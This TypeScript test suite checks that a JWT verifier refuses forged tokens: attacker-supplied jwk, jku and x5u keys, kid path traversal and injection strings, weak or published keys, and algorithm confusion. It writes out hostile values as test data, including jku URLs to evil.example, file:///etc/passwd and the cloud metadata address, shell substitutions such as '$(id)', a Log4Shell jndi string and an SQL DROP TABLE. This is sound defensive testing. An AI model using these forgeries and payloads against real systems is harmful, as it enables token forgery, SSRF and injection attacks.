import { createHash, createPublicKey, generateKeyPairSync } from 'node:crypto'
import { always, ecdsa, forge, hmac, plainly, type Signer } from '../../support/forge.ts'
import { atHouse, attackGroup, refusals, tokenAttack, tokenControl, withToken } from './attack.ts'
import { goodHeader, goodPayload } from './good.ts'
import { type House, never } from './house.ts'

const house = atHouse({ everyKey: true })
const unknown = 'a key id that its issuer does not have'
const mallory = generateKeyPairSync('ec', { namedCurve: 'P-256' })
const malloryJwk = mallory.publicKey.export({ format: 'jwk' })
const malloryPem = String(mallory.publicKey.export({ type: 'spki', format: 'pem' }))

/** A token of good claims with this header, signed by an attacker's key unless said otherwise. */
function headed(header: Readonly<Record<string, unknown>>, sign: (house: House) => Signer = () => ecdsa(mallory.privateKey)) {
  return (at: House) => forge(JSON.stringify({ ...goodHeader(at), ...header }), goodPayload(at), sign(at))
}
const byMain = (at: House) => ecdsa(at.key('ES256').privateKey)

const keyless = [tokenControl('a header without any of them', (at) => at.main.token())]
const refusedMember = (name: string) => `the header member "${name}" is refused`

attackGroup('a token does not bring its own key', house, keyless, [
  tokenAttack('jwk with the key that signed', 'CVE-2018-0114, RFC 8725 section 3.1', refusedMember('jwk'), headed({ jwk: malloryJwk, kid: undefined })),
  tokenAttack('jwk beside a known key id', 'CVE-2018-0114', refusedMember('jwk'), headed({ jwk: malloryJwk })),
  tokenAttack('jwk in a token that is good', 'RFC 7515 section 4.1.3', refusedMember('jwk'), headed({ jwk: malloryJwk }, byMain)),
  tokenAttack('jwk that is null', 'RFC 7515 section 4.1.3', refusedMember('jwk'), headed({ jwk: null }, byMain)),
  ...[
    'https://evil.example/jwks.json',
    'http://127.0.0.1:1/jwks',
    'https://idp.example.com@evil.example/jwks',
    'file:///etc/passwd',
    'http://169.254.169.254/latest/meta-data',
    'data:application/json,{}',
  ].map((jku) => tokenAttack(`jku ${jku}`, 'RFC 8725 section 3.10', refusedMember('jku'), headed({ jku }))),
  tokenAttack('jku that is the true key set', 'RFC 8725 section 3.10', refusedMember('jku'), (at) => headed({ jku: `${at.main.url}/jwks` }, byMain)(at)),
  tokenAttack('x5u', 'RFC 8725 section 3.10', refusedMember('x5u'), headed({ x5u: 'https://evil.example/cert.pem' })),
  tokenAttack('x5c', 'RFC 7515 section 4.1.6', refusedMember('x5c'), headed({ x5c: [malloryPem.replaceAll(/-----[^-]+-----|\s/g, '')] })),
  tokenAttack('x5c that is empty', 'RFC 7515 section 4.1.6', refusedMember('x5c'), headed({ x5c: [] }, byMain)),
  tokenAttack(
    'a thumbprint in place of a key id',
    'RFC 7515 section 4.1.7',
    'signature',
    headed({ kid: undefined, x5t: createHash('sha1').update(malloryPem).digest('base64url') }),
  ),
])

const unprintable = 'the key id is not a printable string'
const traversals = [
  '../../../../dev/null',
  '/dev/null',
  '..\\..\\windows\\win.ini',
  'file:///dev/null',
  '/proc/sys/kernel/randomize_va_space',
  '%2e%2e%2fdev%2fnull',
  'C:\\nul',
]
const injections = [
  "' OR '1'='1",
  "main-1' UNION SELECT 'secret",
  '"; DROP TABLE keys; --',
  '$(id)',
  '`id`',
  '|id',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>',
  '*',
  '%00',
]
const prototypes = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'undefined', 'null']

attackGroup(
  'a key id picks a key of the issuer and does nothing else',
  house,
  [
    tokenControl('the key id of the key that signed', (at) => at.main.token()),
    tokenControl('no key id', (at) => at.main.token({}, { header: { kid: undefined } })),
    tokenControl('a key id that two keys have, by the good one', (at) =>
      at.main.token({}, { key: at.main.keys[0] ?? never('no key'), header: { kid: 'twice' } }),
    ),
  ],
  [
    ...traversals.map((kid) =>
      tokenAttack(
        `kid ${kid}, signed with nothing`,
        'RFC 8725 section 3.10 (path traversal)',
        'an algorithm',
        headed({ kid, alg: 'HS256' }, () => hmac('')),
      ),
    ),
    ...traversals.map((kid) => tokenAttack(`kid ${kid}`, 'RFC 8725 section 3.10 (path traversal)', unknown, headed({ kid }))),
    ...injections.map((kid) => tokenAttack(`kid ${kid}`, 'RFC 8725 section 3.10 (injection)', unknown, headed({ kid }))),
    ...prototypes.map((kid) => tokenAttack(`kid ${kid}`, 'CWE-1321', unknown, headed({ kid }))),
    tokenAttack('a kid with NUL behind a good one', 'CWE-158', unprintable, (at) => headed({ kid: `${at.key('ES256').kid}\u0000.pem` })(at)),
    tokenAttack('a kid with a line end', 'CWE-93', unprintable, headed({ kid: 'a\r\nx: y' })),
    tokenAttack('a kid of 256 characters', 'reference, section 3', unprintable, headed({ kid: 'k'.repeat(256) })),
    tokenAttack('an empty kid', 'RFC 7515 section 4.1.4', unprintable, headed({ kid: '' })),
    tokenAttack('a kid that is a number', 'RFC 7515 section 4.1.4', unprintable, headed({ kid: 1 })),
    tokenAttack('a kid that is null', 'RFC 7515 section 4.1.4', unprintable, headed({ kid: null })),
    tokenAttack('a kid that is a list', 'RFC 7515 section 4.1.4', unprintable, (at) => headed({ kid: [at.key('ES256').kid] })(at)),
    tokenAttack('a kid that is an object', 'RFC 7515 section 4.1.4', unprintable, headed({ kid: { toString: 'x' } })),
    tokenAttack('a kid in other case', 'RFC 7515 section 4.1.4 (case-sensitive)', unknown, (at) =>
      headed({ kid: at.key('ES256').kid.toUpperCase() }, byMain)(at),
    ),
    tokenAttack('a kid with a space behind it', 'RFC 7515 section 4.1.4', unknown, (at) => headed({ kid: `${at.key('ES256').kid} ` }, byMain)(at)),
    tokenAttack('the key id of another issuer', 'RFC 8725 section 3.8', unknown, (at) => at.main.token({}, { key: at.other.keys[0] ?? never('no key') })),
    tokenAttack('the issuer of one and the key of another under the name of its own', 'RFC 8725 section 3.8', 'signature', (at) =>
      at.main.token({}, { key: at.other.keys[0] ?? never('no key'), header: { kid: at.key('ES256').kid } }),
    ),
    tokenAttack('another issuer with the key of this one', 'RFC 8725 section 3.8', 'not accepted here', (at) => at.other.token({}, { key: at.key('ES256') })),
    tokenAttack('another key of the same issuer', 'RFC 7515 section 4.1.4', 'signature', (at) => headed({ kid: at.main.keys[0]?.kid }, byMain)(at)),
    tokenAttack('an unknown key under a known key id', 'RFC 7515 section 5.2', 'signature', headed({})),
    tokenAttack('an unknown key without key id', 'RFC 7515 section 5.2', 'none of the keys', headed({ kid: undefined })),
  ],
)

/** Pads a digest as PKCS#1 v1.5 does; with an exponent of 1 that text is its own signature. */
const unsignedRsa: Signer = (input) => {
  const digest = Buffer.concat([Buffer.from('3031300d060960864801650304020105000420', 'hex'), createHash('sha256').update(input).digest()])
  return Buffer.concat([Buffer.from([0, 1]), Buffer.alloc(256 - 3 - digest.length, 0xff), Buffer.from([0]), digest])
}
const foul = (at: House, kid: string) => at.foul[kid] ?? never(`no foul key ${kid}`)
const rsaFoul = (kid: string) => (at: House) => forge(JSON.stringify({ alg: 'RS256', kid, typ: 'at+jwt' }), goodPayload(at), plainly(foul(at, kid)))
const ecFoul = (kid: string) => headed({ kid }, (at) => ecdsa(foul(at, kid)))

attackGroup(
  'keys that stand in the set of the issuer and are not fit to verify',
  house,
  [tokenControl('a key beside them', (at) => at.main.token()), tokenControl('an RSA key beside them', (at) => at.main.token({}, { key: at.key('RS256') }))],
  [
    tokenAttack('an RSA key of 1024 bits', 'RFC 7518 section 3.3', unknown, rsaFoul('weak')),
    tokenAttack('an RSA key with an even exponent', 'NIST SP 800-56B', unknown, rsaFoul('even')),
    tokenAttack('an RSA key with exponent 1, signed by nobody', 'RFC 8017 section 3.1', unknown, (at) =>
      forge('{"alg":"RS256","kid":"one","typ":"at+jwt"}', goodPayload(at), unsignedRsa),
    ),
    tokenAttack('exponent 1 with zeros before it', 'RFC 7518 section 2', unknown, (at) =>
      forge('{"alg":"RS256","kid":"padded-one","typ":"at+jwt"}', goodPayload(at), unsignedRsa),
    ),
    tokenAttack('a private RSA key that was published', 'RFC 7517 section 9.2', unknown, rsaFoul('private-rsa')),
    tokenAttack('a private EC key that was published', 'RFC 7517 section 9.2', unknown, ecFoul('private-ec')),
    tokenAttack('a key for encryption', 'RFC 7517 section 4.2', unknown, ecFoul('enc')),
    tokenAttack('a key with other operations', 'RFC 7517 section 4.3', unknown, ecFoul('ops')),
    tokenAttack('a key on secp256k1', 'RFC 8812', unknown, ecFoul('koblitz')),
    tokenAttack('a shared secret that was published', 'CVE-2015-9235', 'an algorithm', (at) =>
      forge('{"alg":"HS256","kid":"oct","typ":"at+jwt"}', goodPayload(at), hmac('a shared secret of 32 characters')),
    ),
    tokenAttack('a shared secret under the name of a signature', 'RFC 8725 section 3.1', unknown, (at) =>
      forge('{"alg":"ES256","kid":"oct","typ":"at+jwt"}', goodPayload(at), hmac('a shared secret of 32 characters')),
    ),
    tokenAttack('an EC key that says it is for RS256', 'RFC 7517 section 4.4', 'no applicable key', ecFoul('misnamed')),
    tokenAttack('an EC key as RS256, as it says', 'RFC 7517 section 4.4', 'no applicable key', (at) =>
      forge('{"alg":"RS256","kid":"misnamed","typ":"at+jwt"}', goodPayload(at), ecdsa(foul(at, 'misnamed'))),
    ),
    tokenAttack(
      'a shared key id and a signature of neither',
      'RFC 7515 section 5.2',
      'none of the keys',
      headed({ kid: 'twice' }, () => always(Buffer.alloc(64, 1))),
    ),
  ],
)

const certificateAsSecret = (at: House) => String(createPublicKey({ key: at.key('RS256').jwk, format: 'jwk' }).export({ type: 'pkcs1', format: 'pem' }))

attackGroup('a key of another form', house, keyless, [
  {
    name: 'the PKCS#1 PEM of an RSA key as shared secret, with its key id',
    source: 'CVE-2016-5431',
    as: refusals.badToken,
    why: 'an algorithm',
    send: (at) => withToken(forge(JSON.stringify({ alg: 'HS256', kid: at.key('RS256').kid, typ: 'at+jwt' }), goodPayload(at), hmac(certificateAsSecret(at)))),
  },
])
